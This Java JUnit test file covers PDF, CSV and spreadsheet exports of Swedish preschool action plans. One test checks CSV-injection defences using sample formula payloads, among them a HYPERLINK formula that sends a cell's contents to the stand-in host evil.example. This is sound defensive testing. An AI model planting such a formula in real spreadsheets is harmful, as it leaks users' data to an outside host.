package se.styrkedja.plans.plan.control;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.time.OffsetDateTime;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.text.PDFTextStripper;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;
import se.styrkedja.plans.plan.entity.Activity;
import se.styrkedja.plans.plan.entity.Plan;
import se.styrkedja.plans.plan.entity.PlanKind;

/** A plan printed or opened in a spreadsheet reads as written, Swedish letters and all. */
class PlanExportTest {

  private static final OffsetDateTime AT =
      OffsetDateTime.of(2025, 9, 1, 9, 0, 0, 0, ZoneOffset.UTC);
  private static final UUID AREA = UUID.randomUUID();

  private final Plan plan =
      new Plan(
          PlanKind.LOCAL,
          "2025/26",
          UUID.randomUUID(),
          "Lokal handlingsplan för Älvsjö förskola",
          "Vi inför G Suite; pedagogerna övar källkritik.",
          "forskolechef",
          UUID.randomUUID(),
          "forskolechef.botkyrka",
          AT);

  private final Activity activity =
      new Activity(
          plan.id(),
          1,
          new Activity.Content(
              AREA,
              List.of(),
              "Två IKT-pedagoger på förskolan",
              "Pedagogerna \"IKT-träffar\"; en gång i månaden",
              List.of("larare"),
              List.of(),
              "Alla pedagoger",
              "forskolechef.botkyrka",
              LocalDate.of(2025, 9, 1),
              LocalDate.of(2025, 10, 31),
              "Två utsedda, åtta träffar"),
          "forskolechef.botkyrka",
          AT);

  private PlanExport export(String language) {
    return new PlanExport(
        new PlanExport.Document(
            plan,
            List.of(activity),
            "Älvsjö förskola",
            Map.of(AREA, "Kompetens och strategisk kompetens"),
            Map.of(),
            Map.of(),
            LocalDate.of(2025, 11, 1)),
        language);
  }

  @Test
  void thePdfSaysItAllWithSwedishLettersIntact() throws Exception {
    byte[] pdf = export("sv").pdf();

    try (PDDocument doc = Loader.loadPDF(pdf)) {
      String text = new PDFTextStripper().getText(doc);
      assertTrue(text.contains("Lokal handlingsplan för Älvsjö förskola"), text);
      assertTrue(text.contains("Två IKT-pedagoger på förskolan"), text);
      assertTrue(text.contains("Kompetens och strategisk kompetens"), text);
      assertTrue(text.contains("försenad"), "overdue on 1 November: " + text);
      assertEquals(
          "Lokal handlingsplan för Älvsjö förskola", doc.getDocumentInformation().getTitle());
    }
  }

  @Test
  void aCharacterThePdfFontLacksBecomesAQuestionMarkNotAFailure() throws Exception {
    String text =
        PlanExport.printable(
            new org.apache.pdfbox.pdmodel.font.PDType1Font(
                org.apache.pdfbox.pdmodel.font.Standard14Fonts.FontName.HELVETICA),
            "Åsa 🙂 ok");
    assertEquals("Åsa ? ok", text);
  }

  @Test
  void theCsvOpensInSwedishExcel() {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    export("sv").csv(out);
    byte[] bytes = out.toByteArray();

    assertEquals((byte) 0xEF, bytes[0], "UTF-8 byte-order mark");
    String csv = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
    String[] lines = csv.split("\r\n");
    assertTrue(lines[0].startsWith("Nr;Insats;Prioriterat område;"), lines[0]);
    assertTrue(lines[1].contains(";Två IKT-pedagoger på förskolan;"), lines[1]);
    assertTrue(
        lines[1].contains("\"Pedagogerna \"\"IKT-träffar\"\"; en gång i månaden\""), lines[1]);
    assertTrue(lines[1].contains(";Lärare, Alla pedagoger;"), "the level's name: " + lines[1]);
    assertTrue(lines[1].contains(";Planerad;"), "the status in Swedish: " + lines[1]);
  }

  /**
   * A level the municipality named itself is written with its own name, as the web app shows it.
   */
  @Test
  void theTargetGroupIsTheMunicipalitysOwnNameOfTheLevel() {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    new PlanExport(
            new PlanExport.Document(
                plan,
                List.of(activity),
                "Älvsjö förskola",
                Map.of(),
                Map.of(),
                Map.of("larare", "Pedagog"),
                LocalDate.of(2025, 11, 1)),
            "en")
        .csv(out);
    String csv = out.toString(StandardCharsets.UTF_8);
    assertTrue(csv.contains(";Pedagog, Alla pedagoger;"), csv);
    assertTrue(csv.contains(";Planned;"), csv);
  }

  /**
   * A title typed by a principal must not become a formula in leadership's spreadsheet (CSV
   * injection): every such cell comes out as text, with a single quote in front.
   */
  @Test
  void aCellThatWouldStartAFormulaComesOutAsText() throws Exception {
    List<String> formulas =
        List.of(
            "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Klicka här\")",
            "+1",
            "-1",
            "@SUM(A1:A9)",
            "\tx",
            "\rx");
    List<Activity> activities = new java.util.ArrayList<>();
    for (int i = 0; i < formulas.size(); i++) {
      String f = formulas.get(i);
      activities.add(
          new Activity(
              plan.id(),
              i + 1,
              new Activity.Content(
                  AREA,
                  List.of(),
                  f,
                  f,
                  List.of(),
                  List.of(),
                  f,
                  f,
                  LocalDate.of(2025, 9, 1),
                  LocalDate.of(2025, 10, 31),
                  f),
              "rektor.botkyrka",
              AT));
    }
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    new PlanExport(
            new PlanExport.Document(
                plan,
                activities,
                "Älvsjö förskola",
                Map.of(AREA, "=1+1"),
                Map.of(),
                Map.of(),
                AT.toLocalDate()),
            "sv")
        .csv(out);

    String csv = new String(out.toByteArray(), 3, out.size() - 3, StandardCharsets.UTF_8);
    List<CSVRecord> rows =
        CSVFormat.Builder.create()
            .setDelimiter(';')
            .get()
            .parse(new StringReader(csv))
            .getRecords();
    assertEquals(formulas.size() + 1, rows.size(), csv);
    for (int i = 0; i < formulas.size(); i++) {
      CSVRecord row = rows.get(i + 1);
      String f = formulas.get(i);
      assertEquals("'" + f, row.get(1), "title");
      assertEquals("'=1+1", row.get(2), "priority area");
      assertEquals("'" + f, row.get(4), "target group");
      assertEquals("'" + f, row.get(5), "owner");
      assertEquals("'" + f, row.get(11), "success criteria");
      assertEquals("'" + f, row.get(12), "description");
      for (String cell : row) {
        assertTrue(
            cell.isEmpty() || "=+-@\t\r".indexOf(cell.charAt(0)) < 0,
            "no cell starts a formula: " + row);
      }
    }
  }

  @Test
  void theSpreadsheetHasThePlanAndOneRowPerActivity() throws Exception {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    export("en").xlsx(out);

    try (ReadableWorkbook wb = new ReadableWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
      List<Row> rows = wb.getSheet(1).orElseThrow().read();
      assertEquals("Activity", rows.get(0).getCellText(1));
      assertEquals("Två IKT-pedagoger på förskolan", rows.get(1).getCellText(1));
      assertEquals("Planned", rows.get(1).getCellText(8));
      List<Row> facts = wb.getFirstSheet().read();
      assertEquals("Lokal handlingsplan för Älvsjö förskola", facts.get(0).getCellText(1));
    }
    assertEquals("Local action plan 2025-26 Älvsjö förskola", export("en").fileName());
  }
}
